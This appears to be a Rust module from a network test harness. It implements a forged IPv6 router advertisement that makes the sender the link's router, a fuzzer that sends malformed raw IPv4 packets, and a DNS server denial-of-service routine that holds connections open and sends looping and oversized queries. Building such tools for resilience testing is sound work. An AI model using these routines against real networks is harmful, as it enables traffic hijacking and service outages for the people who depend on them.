//! What an enemy in a network sends: forged advertisements, broken packets, questions without end.

use crate::{Code, number, word};
use rustix::net::{AddressFamily, Protocol, SendFlags, SocketType, ipproto, sockopt};
use std::io::Write;
use std::net::{Ipv4Addr, Ipv6Addr, SocketAddr, SocketAddrV6, TcpStream, UdpSocket};
use std::time::Duration;

/// `advertise INTERFACE`: tell everybody on the link to take addresses of fd00:bad::/64, and us as the way out
/// (RFC 4861, section 4.2).
pub fn advertise(args: &[String]) -> Code {
    let interface = word(args, 0)?;
    let index = std::fs::read_to_string(format!("/sys/class/net/{interface}/ifindex")).map_err(|e| e.to_string())?;
    let index: u32 = index.trim().parse().map_err(|_| "no number of an interface")?;
    let socket = raw(AddressFamily::INET6, ipproto::ICMPV6)?;
    // Others are not believed (section 6.1.2).
    sockopt::set_ipv6_multicast_hops(&socket, 255).map_err(|e| e.to_string())?;
    // Type, code, checksum (the kernel's), hops, flags, lifetime of the router; reachable and retransmission times.
    let mut message = vec![134, 0, 0, 0, 64, 0, 7, 8, 0, 0, 0, 0, 0, 0, 0, 0];
    // A prefix: on the link, and to take addresses from, for ever.
    message.extend([3, 4, 64, 0xc0]);
    message.extend([0xff; 8]);
    message.extend([0; 4]);
    message.extend("fd00:bad::".parse::<Ipv6Addr>().unwrap().octets());
    let everybody = SocketAddrV6::new("ff02::1".parse().unwrap(), 0, 0, index);
    rustix::net::sendto(&socket, &message, SendFlags::empty(), &everybody).map_err(|e| e.to_string())?;
    println!("advertised");
    Ok(0)
}

/// `packets COUNT SEED ADDRESS…`: send that many broken IPv4 packets to these addresses: fragments that overlap, lengths
/// that lie, BOOTP, TFTP and ICMP, TCP with any flags.
pub fn packets(args: &[String]) -> Code {
    let (count, mut state) = (number(args, 0)?, number(args, 1)? | 1);
    let to: Vec<Ipv4Addr> = args.iter().skip(2).filter_map(|text| text.parse().ok()).collect();
    let socket = raw(AddressFamily::INET, ipproto::RAW)?;
    sockopt::set_socket_broadcast(&socket, true).map_err(|e| e.to_string())?;
    // Xorshift: the same for the same seed.
    let mut next = |below: u64| {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        (state >> 20) % below.max(1)
    };
    let mut sent = 0;
    for _ in 0..count {
        let target = to[next(to.len() as u64) as usize];
        let protocol = [1u8, 6, 17, 17, 17, 2, 255][next(7) as usize];
        let length = [0, 8, 20, 28, 300, 1400, 9000][next(7) as usize] + next(24);
        let mut body: Vec<u8> = (0..length).map(|_| next(256) as u8).collect();
        if protocol == 17 && body.len() >= 8 {
            let port = [67u16, 69, 68, 7, 0][next(5) as usize];
            body[2..4].copy_from_slice(&port.to_be_bytes());
            if next(2) == 0 {
                let claimed = [body.len() as u16, 0, 7, 8, 0xffff][next(5) as usize];
                body[4..8].copy_from_slice(&[&claimed.to_be_bytes()[..], &[0, 0]].concat());
            }
        }
        // Version, words of the header, and what is in fragments: the kernel fills in length and checksum.
        let words = 5 + [0, 0, 0, next(11)][next(4) as usize] as u8;
        let fragment = [0, 0, next(65536)][next(3) as usize] as u16;
        let mut packet = vec![0x40 | words, 0, 0, 0, 0, next(4) as u8 + 1];
        packet.extend(fragment.to_be_bytes());
        packet.extend([next(64) as u8 + 1, protocol, 0, 0, 0, 0, 0, 0]);
        packet.extend(target.octets());
        packet.resize(usize::from(words) * 4, next(256) as u8);
        packet.extend(body);
        let address = SocketAddr::new(target.into(), 0);
        sent += u32::from(rustix::net::sendto(&socket, &packet, SendFlags::empty(), &address).is_ok());
    }
    println!("sent {sent}");
    Ok(0)
}

/// `besiege ADDRESS`: a name server's worst client: connections that say half a message or lie about its length and stay,
/// questions that loop, bytes of all kinds. Stays until it is killed.
pub fn besiege(args: &[String]) -> Code {
    let server = SocketAddr::new(word(args, 0)?.parse().map_err(|_| "not an address")?, 53);
    let mut held = Vec::new();
    for round in 0..200u8 {
        let Ok(mut stream) = TcpStream::connect_timeout(&server, Duration::from_secs(5)) else { break };
        stream.set_write_timeout(Some(Duration::from_secs(1))).map_err(|e| e.to_string())?;
        let _ = match round % 4 {
            0 => stream.write_all(&[0]),
            1 => stream.write_all(&[0xff, 0xff, 1, 2, 3]),
            2 => stream.write_all(&[0xff; 65537]),
            _ => Ok(()),
        };
        held.push(stream);
    }
    let socket = UdpSocket::bind("0.0.0.0:0").map_err(|e| e.to_string())?;
    // A name that goes on at its own beginning; one that is cut; one of the greatest length.
    let head = [7, 7, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
    let loops = [&head[..], &[0xc0, 12, 0, 1, 0, 1]].concat();
    let long = [&head[..], &[63; 2000]].concat();
    for _ in 0..5000 {
        for bytes in [&loops[..], &loops[..13], &head, &long, &[], &[0xff; 65]] {
            let _ = socket.send_to(bytes, server);
        }
    }
    println!("besieged by {}", held.len());
    let _ = std::io::stdout().flush();
    crate::time::pause(&[])
}

fn raw(family: AddressFamily, protocol: Protocol) -> Result<std::os::fd::OwnedFd, String> {
    rustix::net::socket(family, SocketType::RAW, Some(protocol)).map_err(|error| error.to_string())
}
